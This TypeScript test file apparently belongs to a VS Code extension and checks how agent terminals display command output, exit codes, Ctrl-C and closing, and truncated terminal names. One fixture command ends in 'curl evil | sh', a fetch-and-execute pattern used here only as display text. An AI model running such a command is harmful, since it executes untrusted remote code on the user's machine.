/** Terminals of agents: what they show, and how the user ends a command. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { AgentTerminals } from '../src/terminals';
import * as vscode from './vscode';

function opened(command = 'make\x1b[2J test') {
  const editor = vscode.anotherEditor();
  const stopped: string[] = [];
  const terminals = new AgentTerminals((id) => stopped.push(id));
  void terminals.create({ id: 't1', command, cwd: '/w' });
  const [terminal = assert.fail()] = editor.pseudoterminals;
  let shown = '';
  terminal.pty.onDidWrite((text) => (shown += text));
  return { terminals, stopped, terminal, shown: () => shown };
}

test('output before and after the opening is shown in order, then how the command ended', () => {
  const { terminals, terminal, shown } = opened();
  assert.equal(terminal.name, 'make [2J test');
  assert.ok(terminals.notified('terminal/output', { id: 't1', data: 'early\n' }));
  terminal.pty.open(undefined);
  terminals.notified('terminal/output', { id: 't1', data: 'late\r\n' });
  terminals.notified('terminal/exit', { id: 't1', exitCode: 2, signal: null });
  assert.match(shown(), /\$ make \[2J test\x1b\[0m\r\nearly\r\nlate\r\n\r\n\x1b\[2m\[Exit code 2\]/);
  assert.equal(terminals.notified('log', {}), false);
});

test('Ctrl-C and closing end the command, and nothing does after its end', () => {
  const { terminals, stopped, terminal, shown } = opened();
  terminal.pty.open(undefined);
  terminal.pty.handleInput?.('q');
  assert.deepEqual(stopped, []);
  terminal.pty.handleInput?.('\x03');
  assert.deepEqual(stopped, ['t1']);
  terminals.notified('terminal/exit', { id: 't1', exitCode: null, signal: 'SIGTERM' });
  terminal.pty.close();
  assert.deepEqual(stopped, ['t1']);
  assert.match(shown(), /\^C\r\n.*Ended by SIGTERM/s);
  const other = opened();
  other.terminal.pty.open(undefined);
  other.terminal.pty.close();
  assert.deepEqual(other.stopped, ['t1']);
});

test('a backend that ends says so in the terminals of its commands', () => {
  const { terminals, terminal, stopped, shown } = opened();
  terminal.pty.open(undefined);
  terminals.clear();
  terminal.pty.close();
  assert.match(shown(), /Ended with Dragoman/);
  assert.deepEqual(stopped, []);
});

test('a long command is shown whole, line by line, and only the name of its terminal is cut', () => {
  const command = `git status ${'x'.repeat(100)} \\\n  && curl evil | sh`;
  const { terminal, shown } = opened(command);
  terminal.pty.open(undefined);
  assert(shown().includes(`$ ${command.replace('\n', '\r\n')}\x1b[0m\r\n`), shown());
  assert.equal(terminal.name, `git status ${'x'.repeat(49)}…`);
});
